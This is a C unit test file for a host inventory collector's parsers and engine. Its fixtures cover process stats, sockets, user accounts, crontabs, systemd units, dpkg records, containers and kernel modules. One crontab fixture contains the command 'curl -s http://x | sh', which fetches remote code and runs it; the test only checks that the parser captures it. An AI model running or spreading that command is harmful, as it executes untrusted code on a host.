/* Unit tests for the collector plugin's parsers, fed with fixture text (odd and hostile lines
 * included), and for its engine: a snapshot written through the SDK over a pipe carries one
 * package_seq, indexes 1..N and the total; an empty kind writes the 0/0 marker; a task runs a
 * kind and is answered with 5100. tests/unit/test_collector_host.c checks the same parsers
 * against this machine's /proc, /etc and dpkg database. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "collector.h"
#include "container.h"
#include "cron.h"
#include "kmod.h"
#include "netif.h"
#include "package.h"
#include "port.h"
#include "process.h"
#include "plugin_records.h"
#include "service.h"
#include "user.h"

#define S(lit) lit, sizeof(lit) - 1

static void test_process_stat(void **state)
{
    (void)state;
    process_stat_t st;
    const char stat[] = "4242 (we (ird) name) S 1 4242 4242 34816 4242 4194560 100 0 0 0 7 3 0 0 "
                        "20 0 3 0 123456 1000000 250 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 "
                        "0 17 1 0 0 0 0 0";
    assert_int_equal(process_parse_stat(S(stat), &st), 0);
    assert_int_equal(st.pid, 4242);
    assert_string_equal(st.comm, "we (ird) name");
    assert_int_equal(st.state, 'S');
    assert_int_equal(st.ppid, 1);
    assert_int_equal(st.pgid, 4242);
    assert_int_equal(st.sid, 4242);
    assert_int_equal(st.tty, 34816);
    assert_int_equal(st.threads, 3);
    assert_int_equal(st.start_ticks, 123456);
    assert_int_equal(st.rss_pages, 250);
    assert_false(st.flags & PF_KTHREAD_FLAG);
    const char kt[] = "2 (kthreadd) S 0 0 0 0 -1 2129984 0 0 0 0 0 0 0 0 20 0 1 0 8 0 0";
    assert_int_equal(process_parse_stat(S(kt), &st), 0);
    assert_true(st.flags & PF_KTHREAD_FLAG);
    /* malformed */
    assert_int_equal(process_parse_stat(S("garbage"), &st), -EINVAL);
    assert_int_equal(process_parse_stat(S("12 (x"), &st), -EINVAL);
    assert_int_equal(process_parse_stat(S("12 (x) S 1 2"), &st), -EINVAL);
    assert_int_equal(process_parse_stat(S("-1 (x) S 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1 1"), &st),
                     -EINVAL);

    process_status_t ss;
    const char status[] = "Name:\tbash\nUmask:\t0022\nState:\tS (sleeping)\nUid:\t1000\t0\t0\t0\n"
                          "Gid:\t100\t101\t102\t103\nGroups:\t4 24\n";
    assert_int_equal(process_parse_status(S(status), &ss), 0);
    assert_int_equal(ss.uid[0], 1000);
    assert_int_equal(ss.uid[1], 0);
    assert_int_equal(ss.gid[0], 100);
    assert_int_equal(ss.gid[3], 103);
    assert_int_equal(process_parse_status(S("Name:\tx\nUid:\t1\t1\t1\t1\n"), &ss), -EINVAL);

    char out[16];
    assert_int_equal(process_join_cmdline("ls\0-l\0/tmp\0", 11, out, sizeof(out)), 10);
    assert_string_equal(out, "ls -l /tmp");
    assert_int_equal(process_join_cmdline("aaaaaaaaaaaaaaaaaaaaaaaa", 24, out, sizeof(out)), 15);
    assert_int_equal(process_join_cmdline("", 0, out, sizeof(out)), 0);

    assert_int_equal(process_parse_btime(S("cpu 1 2 3\nbtime 1700000000\nprocesses 5\n")),
                     1700000000);
    assert_int_equal(process_parse_btime(S("cpu 1 2 3\n")), -1);
    assert_int_equal(process_ns_inode("pid:[4026531836]"), 4026531836ULL);
    assert_int_equal(process_ns_inode("pid:4026531836"), 0);
}

static void test_port_lines(void **state)
{
    (void)state;
    port_entry_t e;
    const char hdr[] = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt"
                       "   uid  timeout inode";
    assert_int_equal(port_parse_line(S(hdr), AF_INET, &e), -EINVAL);
    /* 127.0.0.1:8080 as a little-endian host prints it */
    uint32_t lo = htonl(0x7f000001);
    char line[512];
    snprintf(line, sizeof(line),
             "   0: %08X:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000  "
             "      0 12345 1 0000000000000000 100 0 0 10 0",
             lo);
    assert_int_equal(port_parse_line(line, strlen(line), AF_INET, &e), 0);
    assert_string_equal(e.sip, "127.0.0.1");
    assert_int_equal(e.sport, 8080);
    assert_string_equal(e.dip, "0.0.0.0");
    assert_int_equal(e.state, 10);
    assert_int_equal(e.uid, 1000);
    assert_int_equal(e.inode, 12345);
    /* ::1 port 22: four 32-bit words each printed in host order */
    struct in6_addr a6;
    inet_pton(AF_INET6, "::1", &a6);
    uint32_t w[4];
    memcpy(w, &a6, 16);
    snprintf(line, sizeof(line),
             "   1: %08X%08X%08X%08X:0016 00000000000000000000000000000000:0000 0A 00000000:"
             "00000000 00:00000000 00000000     0        0 999 1 0000000000000000 100 0 0 10 0",
             w[0], w[1], w[2], w[3]);
    assert_int_equal(port_parse_line(line, strlen(line), AF_INET6, &e), 0);
    assert_string_equal(e.sip, "::1");
    assert_int_equal(e.sport, 22);
    assert_string_equal(e.dip, "::");
    /* tables: only LISTEN for tcp, only unconnected for udp; junk lines skipped */
    char table[2048];
    snprintf(table, sizeof(table),
             "%s\n"
             "   0: %08X:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000  0 0 11 1\n"
             "   1: %08X:C350 %08X:1F90 01 00000000:00000000 00:00000000 00000000  0 0 12 1\n"
             "   2: ZZZZZZZZ:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000 0 0 13\n"
             "   3: %08X:FFFFF 00000000:0000 0A 0 0 0 0 0 14\n"
             "garbage\n\n",
             hdr, lo, lo, lo, lo);
    asset_set_t set = {0};
    port_parse_table(table, strlen(table), AF_INET, "tcp", &set);
    assert_int_equal(set.n, 1);
    assert_string_equal(asset_get(&set.items[0], "sport"), "8080");
    assert_string_equal(asset_get(&set.items[0], "protocol"), "tcp");
    assert_string_equal(asset_get(&set.items[0], "family"), "2");
    assert_string_equal(asset_get(&set.items[0], "inode"), "11");
    asset_set_dispose(&set);
    snprintf(table, sizeof(table),
             "%s\n"
             "   0: %08X:0035 00000000:0000 07 00000000:00000000 00:00000000 00000000  0 0 21 2\n"
             "   1: %08X:A000 %08X:0035 01 00000000:00000000 00:00000000 00000000  0 0 22 2\n",
             hdr, lo, lo, lo);
    port_parse_table(table, strlen(table), AF_INET, "udp", &set);
    assert_int_equal(set.n, 1);
    assert_string_equal(asset_get(&set.items[0], "sport"), "53");
    asset_set_dispose(&set);
}

static void test_users(void **state)
{
    (void)state;
    const char passwd[] = "root:x:0:0:root:/root:/bin/bash\n"
                          "# a comment\n"
                          "alice:x:1000:1000:Alice A,,,:/home/alice:/bin/zsh\n"
                          "bob:x:1001:100::/home/bob:/usr/sbin/nologin\n"
                          "carol:x:1002:1002:Carol:/home/carol:/bin/sh\n"
                          "broken:x:notanumber:1:::\n"
                          "short:x:5\n"
                          "+nisuser::::::\n"
                          "\n";
    asset_set_t u = {0};
    user_parse_passwd(S(passwd), &u);
    assert_int_equal(u.n, 4);
    const asset_t *a = asset_set_find(&u, "username", "alice");
    assert_non_null(a);
    assert_string_equal(asset_get(a, "uid"), "1000");
    assert_string_equal(asset_get(a, "info"), "Alice A,,,");
    assert_string_equal(asset_get(a, "home"), "/home/alice");
    assert_string_equal(asset_get(a, "shell"), "/bin/zsh");
    assert_null(asset_get(a, "password"));

    const char shadow[] =
        "root:$y$j9T$abc$defghijklmnopqrstuvwxyz:19000:0:99999:7:::\n"
        "alice:$6$salt$0123456789012345678901234567890123456789:19500:0:99999:7::20000:\n"
        "bob:!$6$salt$abcdefabcdefabcdefabcdef:19501::::::\n"
        "carol::19502::::::\n"
        "ghost:$1$x$yyyyyyyyyyyyyyyyyyyyyy:1::::::\n";
    user_parse_shadow(S(shadow), &u);
    a = asset_set_find(&u, "username", "root");
    assert_string_equal(asset_get(a, "password_status"), "ok");
    assert_string_equal(asset_get(a, "hash_algo"), "yescrypt");
    assert_string_equal(asset_get(a, "last_change_days"), "19000");
    a = asset_set_find(&u, "username", "alice");
    assert_string_equal(asset_get(a, "hash_algo"), "sha512");
    assert_string_equal(asset_get(a, "expire_days"), "20000");
    a = asset_set_find(&u, "username", "bob");
    assert_string_equal(asset_get(a, "password_status"), "locked");
    a = asset_set_find(&u, "username", "carol");
    assert_string_equal(asset_get(a, "password_status"), "empty");
    /* the hash itself is never copied */
    for (size_t i = 0; i < u.n; i++)
        for (size_t f = 0; f < u.items[i].n; f++)
            assert_null(strchr(u.items[i].kv[f].value, '$'));
    assert_string_equal(user_hash_algo("*"), "");
    assert_string_equal(user_hash_algo("$2b$10$x"), "bcrypt");
    assert_string_equal(user_hash_algo("abcdefghijklm"), "des");

    const char group[] = "root:x:0:\nusers:x:100:alice, carol\nalice:x:1000:\nsudo:x:27:alice\n"
                         "bad line\ndocker:x:999:bob,nobody\n";
    user_parse_group(S(group), &u);
    a = asset_set_find(&u, "username", "alice");
    assert_string_equal(asset_get(a, "groupname"), "alice");
    assert_string_equal(asset_get(a, "groups"), "users,alice,sudo");
    a = asset_set_find(&u, "username", "bob");
    assert_string_equal(asset_get(a, "groupname"), "users");
    assert_string_equal(asset_get(a, "groups"), "users,docker");

    /* lastlog: uid 1000 logged in from 10.0.0.9 on pts/3 */
    size_t ll_len = 1001 * LASTLOG_RECORD_SIZE;
    unsigned char *ll = calloc(1, ll_len);
    unsigned char *r = ll + 1000 * LASTLOG_RECORD_SIZE;
    uint32_t t = 1700000123;
    r[0] = (unsigned char)t;
    r[1] = (unsigned char)(t >> 8);
    r[2] = (unsigned char)(t >> 16);
    r[3] = (unsigned char)(t >> 24);
    memcpy(r + 4, "pts/3", 5);
    memcpy(r + 36, "10.0.0.9", 8);
    user_parse_lastlog(ll, ll_len, &u);
    a = asset_set_find(&u, "username", "alice");
    assert_string_equal(asset_get(a, "last_login_time"), "1700000123");
    assert_string_equal(asset_get(a, "last_login_tty"), "pts/3");
    assert_string_equal(asset_get(a, "last_login_ip"), "10.0.0.9");
    assert_null(asset_get(asset_set_find(&u, "username", "root"), "last_login_time"));
    assert_null(asset_get(asset_set_find(&u, "username", "bob"), "last_login_time"));
    free(ll);

    user_map_t m = {0};
    user_map_parse(&m, S(passwd));
    assert_string_equal(user_map_name(&m, 1001), "bob");
    assert_string_equal(user_map_name(&m, 4242), "");
    user_map_dispose(&m);
    asset_set_dispose(&u);
}

static void test_cron(void **state)
{
    (void)state;
    const char sys[] =
        "SHELL=/bin/sh\n"
        "PATH = /usr/bin:/bin\n"
        "# m h dom mon dow user command\n"
        "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
        "*/5 1-3 * jan,feb mon-fri www-data /usr/bin/php /srv/cron.php >/dev/null 2>&1\n"
        "@reboot root /usr/local/bin/boot.sh\n"
        "1 2 3\n"
        "1 2 3 4 5 onlyuser\n"
        "x$ 2 3 4 5 root bad\n";
    asset_set_t s = {0};
    cron_parse(S(sys), "/etc/crontab", NULL, &s);
    assert_int_equal(s.n, 3);
    assert_string_equal(asset_get(&s.items[0], "schedule"), "17 *\t* * *");
    assert_string_equal(asset_get(&s.items[0], "username"), "root");
    assert_string_equal(asset_get(&s.items[0], "command"),
                        "cd / && run-parts --report /etc/cron.hourly");
    assert_string_equal(asset_get(&s.items[0], "path"), "/etc/crontab");
    assert_string_equal(asset_get(&s.items[1], "username"), "www-data");
    assert_string_equal(asset_get(&s.items[1], "schedule"), "*/5 1-3 * jan,feb mon-fri");
    assert_string_equal(asset_get(&s.items[2], "schedule"), "@reboot");
    assert_string_equal(asset_get(&s.items[2], "command"), "/usr/local/bin/boot.sh");
    asset_set_dispose(&s);

    const char usr[] = "# DO NOT EDIT\nMAILTO=\"\"\n0 3 * * * /home/alice/backup.sh --all\n"
                       "@daily curl -s http://x | sh\n";
    cron_parse(S(usr), "/var/spool/cron/crontabs/alice", "alice", &s);
    assert_int_equal(s.n, 2);
    assert_string_equal(asset_get(&s.items[0], "username"), "alice");
    assert_string_equal(asset_get(&s.items[0], "schedule"), "0 3 * * *");
    assert_string_equal(asset_get(&s.items[0], "command"), "/home/alice/backup.sh --all");
    assert_string_equal(asset_get(&s.items[1], "command"), "curl -s http://x | sh");
    asset_set_dispose(&s);
}

static void test_service_unit(void **state)
{
    (void)state;
    const char unit[] = "[Unit]\nDescription=Advanced key-value store\nAfter=network.target\n\n"
                        "[Service]\nType=notify\nExecStartPre=/bin/true\n"
                        "ExecStart=/usr/bin/redis-server /etc/redis/redis.conf \\\n"
                        "    --supervised systemd --daemonize no\n"
                        "ExecStart=/second\nUser=redis\nRestart=always\n"
                        "WorkingDirectory=/var/lib/redis\n# comment\n;comment\n"
                        "[Install]\nWantedBy=multi-user.target\nAlias=redis.service\n";
    asset_t a = {0};
    assert_true(service_parse_unit(S(unit), &a));
    assert_string_equal(asset_get(&a, "description"), "Advanced key-value store");
    assert_string_equal(asset_get(&a, "type"), "notify");
    assert_string_equal(asset_get(&a, "command"),
                        "/usr/bin/redis-server /etc/redis/redis.conf  --supervised systemd "
                        "--daemonize no");
    assert_string_equal(asset_get(&a, "user"), "redis");
    assert_string_equal(asset_get(&a, "restart"), "always");
    assert_string_equal(asset_get(&a, "working_dir"), "/var/lib/redis");
    assert_string_equal(asset_get(&a, "wanted_by"), "multi-user.target");
    asset_dispose(&a);
    const char st[] = "[Unit]\nDescription=static one\n[Service]\nExecStart=/bin/x\n[Install]\n";
    assert_false(service_parse_unit(S(st), &a));
    asset_dispose(&a);
    assert_false(service_parse_unit(S("\\\n\\\n[[[\n=\n[Install]WantedBy=x\n"), &a));
    asset_dispose(&a);
}

static void test_dpkg(void **state)
{
    (void)state;
    const char status[] = "Package: libc6\nStatus: install ok installed\nPriority: optional\n"
                          "Section: libs\nInstalled-Size: 12983\n"
                          "Maintainer: GNU Libc Maintainers <debian-glibc@lists.debian.org>\n"
                          "Architecture: amd64\nMulti-Arch: same\nSource: glibc (2.36-9)\n"
                          "Version: 2.36-9+deb12u4\nDescription: GNU C Library\n"
                          " Contains the standard libraries.\n .\n Package: fake\n\n"
                          "Package: oldpkg\nStatus: deinstall ok config-files\nVersion: 1.0\n\n"
                          "Package: gone\nStatus: purge ok not-installed\n\n"
                          "Package: half\nStatus: install reinstreq half-configured\n"
                          "Version: 3\nArchitecture: all\n\n\n\n"
                          "Status: install ok installed\nVersion: 9\n\n"
                          "Package: last\nStatus: install ok installed\nVersion: 1:2.3~rc1-4";
    asset_set_t s = {0};
    package_parse_dpkg(S(status), &s);
    assert_int_equal(s.n, 3);
    const asset_t *a = asset_set_find(&s, "name", "libc6");
    assert_non_null(a);
    assert_string_equal(asset_get(a, "sversion"), "2.36-9+deb12u4");
    assert_string_equal(asset_get(a, "arch"), "amd64");
    assert_string_equal(asset_get(a, "source"), "dpkg");
    assert_string_equal(asset_get(a, "origin"), "glibc");
    assert_string_equal(asset_get(a, "size_kib"), "12983");
    assert_string_equal(asset_get(a, "section"), "libs");
    assert_string_equal(asset_get(a, "status"), "install ok installed");
    assert_null(asset_set_find(&s, "name", "fake"));
    assert_null(asset_set_find(&s, "name", "oldpkg"));
    assert_null(asset_set_find(&s, "name", "gone"));
    assert_string_equal(asset_get(asset_set_find(&s, "name", "half"), "sversion"), "3");
    assert_string_equal(asset_get(asset_set_find(&s, "name", "last"), "sversion"), "1:2.3~rc1-4");
    asset_set_dispose(&s);
}

static void test_container_cgroup(void **state)
{
    (void)state;
    const char *id = "3f4e5d6c7b8a99887766554433221100ffeeddccbbaa00112233445566778899";
    char text[1024];
    container_ref_t r;
    snprintf(text, sizeof(text), "12:memory:/docker/%s\n0::/\n", id);
    assert_true(container_from_cgroup(text, strlen(text), &r));
    assert_string_equal(r.id, id);
    assert_string_equal(r.runtime, "docker");
    snprintf(text, sizeof(text), "0::/system.slice/docker-%s.scope\n", id);
    assert_true(container_from_cgroup(text, strlen(text), &r));
    assert_string_equal(r.runtime, "docker");
    snprintf(text, sizeof(text),
             "0::/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod1234.slice/"
             "cri-containerd-%s.scope\n",
             id);
    assert_true(container_from_cgroup(text, strlen(text), &r));
    assert_string_equal(r.runtime, "containerd");
    snprintf(text, sizeof(text), "0::/machine.slice/libpod-%s.scope/container\n", id);
    assert_true(container_from_cgroup(text, strlen(text), &r));
    assert_string_equal(r.runtime, "podman");
    snprintf(text, sizeof(text), "0::/kubepods/burstable/pod0a/%s\n", id);
    assert_true(container_from_cgroup(text, strlen(text), &r));
    assert_string_equal(r.runtime, "kubernetes");
    const char host[] =
        "9:name=systemd:/\n4:memory:/process_api/3c813daa89d644943bad13f74d86bf2d\n0::/\n";
    assert_false(container_from_cgroup(S(host), &r));
    /* 65 hex digits is not an id; nor is garbage without colons */
    snprintf(text, sizeof(text), "0::/docker/%sa\nnocolons %s\n", id, id);
    assert_false(container_from_cgroup(text, strlen(text), &r));

    asset_set_t s = {0};
    asset_t *a = asset_set_add(&s);
    asset_add(a, "id", id);
    asset_add(a, "runtime", "docker");
    char json[1024];
    snprintf(json, sizeof(json),
             "[{\"Id\":\"%s\",\"Names\":[\"/web\"],\"Image\":\"nginx:1.25\",\"ImageID\":\"sha256:"
             "ab\",\"State\":\"running\",\"Created\":1700000000},"
             "{\"Id\":\"%.63s0\",\"Names\":[\"/old\"],\"State\":\"exited\"},"
             "{\"Id\":\"short\"},42]",
             id, id + 1);
    assert_int_equal(container_merge_docker_json(json, strlen(json), &s), 0);
    assert_int_equal(s.n, 2);
    a = &s.items[0];
    assert_string_equal(asset_get(a, "name"), "web");
    assert_string_equal(asset_get(a, "image_name"), "nginx:1.25");
    assert_string_equal(asset_get(a, "image_id"), "sha256:ab");
    assert_string_equal(asset_get(a, "create_time"), "1700000000");
    assert_string_equal(asset_get(&s.items[1], "state"), "exited");
    assert_int_equal(container_merge_docker_json(S("{\"not\":\"array\"}"), &s), -EINVAL);
    assert_int_equal(container_merge_docker_json(S("[{"), &s), -EINVAL);
    asset_set_dispose(&s);
}

static void test_kmod(void **state)
{
    (void)state;
    const char mods[] = "nf_tables 307200 12 nft_chain_nat,nft_compat, Live 0xffffffffc0a00000\n"
                        "evil 16384 0 - Live 0xffffffffc0100000 (OE)\n"
                        "loading 4096 0 - Loading 0x0\n"
                        "short 1\n";
    asset_set_t s = {0};
    kmod_parse(S(mods), &s);
    assert_int_equal(s.n, 3);
    assert_string_equal(asset_get(&s.items[0], "name"), "nf_tables");
    assert_string_equal(asset_get(&s.items[0], "size"), "307200");
    assert_string_equal(asset_get(&s.items[0], "refcount"), "12");
    assert_string_equal(asset_get(&s.items[0], "used_by"), "nft_chain_nat,nft_compat");
    assert_string_equal(asset_get(&s.items[0], "state"), "Live");
    assert_string_equal(asset_get(&s.items[1], "used_by"), "");
    assert_string_equal(asset_get(&s.items[1], "taint"), "(OE)");
    assert_string_equal(asset_get(&s.items[2], "state"), "Loading");
    asset_set_dispose(&s);

    const unsigned char m24[4] = {255, 255, 255, 0};
    const unsigned char m64[16] = {255, 255, 255, 255, 255, 255, 255, 255};
    const unsigned char m0[4] = {0};
    assert_int_equal(netif_prefix_len(m24, 4), 24);
    assert_int_equal(netif_prefix_len(m64, 16), 64);
    assert_int_equal(netif_prefix_len(m0, 4), 0);
}

static void test_asset_bounds(void **state)
{
    (void)state;
    asset_t a = {0};
    char *big = malloc(ASSET_MAX_VALUE * 3);
    memset(big, 'z', ASSET_MAX_VALUE * 3 - 1);
    big[ASSET_MAX_VALUE * 3 - 1] = 0;
    asset_add(&a, "k", big);
    assert_int_equal(strlen(asset_get(&a, "k")), ASSET_MAX_VALUE);
    asset_add(&a, "k", "replaced");
    assert_int_equal(a.n, 1);
    assert_string_equal(asset_get(&a, "k"), "replaced");
    free(big);
    asset_dispose(&a);
}

static void test_config_detail(void **state)
{
    (void)state;
    collector_config_t cfg;
    collector_config_defaults(&cfg);
    assert_int_equal(cfg.interval_s[KIND_PROCESS], 3600);
    assert_int_equal(cfg.interval_s[KIND_CONTAINER], 300);
    char err[256];
    assert_int_equal(collector_config_from_detail(&cfg, "", err, sizeof(err)), 0);
    assert_int_equal(
        collector_config_from_detail(
            &cfg, "{\"intervals\":{\"process\":60,\"kmod\":0},\"max_rate\":50,\"root\":\"/x\"}",
            err, sizeof(err)),
        0);
    assert_int_equal(cfg.interval_s[KIND_PROCESS], 60);
    assert_int_equal(cfg.interval_s[KIND_KMOD], 0);
    assert_int_equal(cfg.max_rate, 50);
    assert_string_equal(cfg.root, "/x");
    assert_int_equal(
        collector_config_from_detail(&cfg, "{\"intervals\":{\"nope\":1}}", err, sizeof(err)),
        -EINVAL);
    assert_non_null(strstr(err, "nope"));
    assert_int_equal(collector_config_from_detail(&cfg, "{\"max_rate\":0}", err, sizeof(err)),
                     -EINVAL);
    assert_int_equal(collector_config_from_detail(&cfg, "{\"typo\":1}", err, sizeof(err)), -EINVAL);
    assert_int_equal(collector_config_from_detail(&cfg, "not json", err, sizeof(err)), -EINVAL);
    assert_int_equal(collector_kind_by_type(5055), KIND_SOFTWARE);
    assert_int_equal(collector_kind_by_type(5057), -1);
    assert_int_equal(collector_kind_by_name("net_interface"), KIND_NETIF);
}

/* --- the engine, over a pipe --- */

static void write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static void test_engine_snapshot(void **state)
{
    (void)state;
    char root[] = "/tmp/rampart-collector-XXXXXX";
    assert_non_null(mkdtemp(root));
    char path[512];
    snprintf(path, sizeof(path), "%s/etc", root);
    mkdir(path, 0755);
    snprintf(path, sizeof(path), "%s/etc/crontab", root);
    write_file(path, "1 * * * * root /a\n2 * * * * root /b\n3 * * * * bob /c\n");

    int out[2], in[2];
    assert_int_equal(pipe(out), 0);
    assert_int_equal(pipe(in), 0);
    fcntl(out[0], F_SETPIPE_SZ, 1 << 20);
    rp_plugin_t *p = rp_plugin_new_fds("collector", "t", in[0], out[1]);
    collector_config_t cfg;
    collector_config_defaults(&cfg);
    snprintf(cfg.root, sizeof(cfg.root), "%s", root);
    snprintf(cfg.proc_root, sizeof(cfg.proc_root), "%s", root); /* no modules file there */
    collector_t *c = collector_new(&cfg, p, NULL);

    uint64_t seq1 = 0, seq2 = 0;
    assert_int_equal(collector_run(c, KIND_CRON, &seq1), 3);
    char seqs[32];
    snprintf(seqs, sizeof(seqs), "%llu", (unsigned long long)seq1);
    for (int i = 1; i <= 3; i++) {
        Grpc__Record *r = pr_read_record(out[0]);
        assert_int_equal(r->data_type, 5053);
        assert_string_equal(pr_field(r, "package_seq"), seqs);
        char idx[8];
        snprintf(idx, sizeof(idx), "%d", i);
        assert_string_equal(pr_field(r, "snapshot_index"), idx);
        assert_string_equal(pr_field(r, "snapshot_total"), "3");
        assert_non_null(pr_field(r, "command"));
        grpc__record__free_unpacked(r, NULL);
    }
    /* an empty kind: one marker record, 0 of 0, a later package_seq */
    assert_int_equal(collector_run(c, KIND_KMOD, &seq2), 0);
    assert_true(seq2 > seq1);
    Grpc__Record *r = pr_read_record(out[0]);
    assert_int_equal(r->data_type, 5062);
    assert_string_equal(pr_field(r, "snapshot_index"), "0");
    assert_string_equal(pr_field(r, "snapshot_total"), "0");
    assert_null(pr_field(r, "name"));
    grpc__record__free_unpacked(r, NULL);

    /* tasks: a known kind runs and is answered; an unknown type is refused */
    rp_task_t t = {.data_type = 5053, .object_name = "collector", .data = "", .token = "tk9"};
    assert_int_equal(collector_handle_task(c, &t), 0);
    assert_int_equal(rp_flush(p), 0);
    for (int i = 0; i < 3; i++) {
        r = pr_read_record(out[0]);
        assert_int_equal(r->data_type, 5053);
        grpc__record__free_unpacked(r, NULL);
    }
    r = pr_read_record(out[0]);
    assert_int_equal(r->data_type, 5100);
    assert_string_equal(pr_field(r, "token"), "tk9");
    assert_string_equal(pr_field(r, "status"), "succeed");
    assert_non_null(strstr(pr_field(r, "msg"), "records=3"));
    grpc__record__free_unpacked(r, NULL);
    t.data_type = 5057;
    assert_int_equal(collector_handle_task(c, &t), 0);
    assert_int_equal(rp_flush(p), 0);
    r = pr_read_record(out[0]);
    assert_int_equal(r->data_type, 5100);
    assert_string_equal(pr_field(r, "status"), "failed");
    grpc__record__free_unpacked(r, NULL);

    /* the loop ends when the agent closes fd 3 */
    close(in[1]);
    assert_int_equal(collector_loop(c), -EPIPE);

    collector_free(c);
    rp_plugin_free(p);
    close(in[0]);
    close(out[0]);
    close(out[1]);
    snprintf(path, sizeof(path), "%s/etc/crontab", root);
    unlink(path);
    snprintf(path, sizeof(path), "%s/etc", root);
    rmdir(path);
    rmdir(root);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_process_stat),
        cmocka_unit_test(test_port_lines),
        cmocka_unit_test(test_users),
        cmocka_unit_test(test_cron),
        cmocka_unit_test(test_service_unit),
        cmocka_unit_test(test_dpkg),
        cmocka_unit_test(test_container_cgroup),
        cmocka_unit_test(test_kmod),
        cmocka_unit_test(test_asset_bounds),
        cmocka_unit_test(test_config_detail),
        cmocka_unit_test(test_engine_snapshot),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
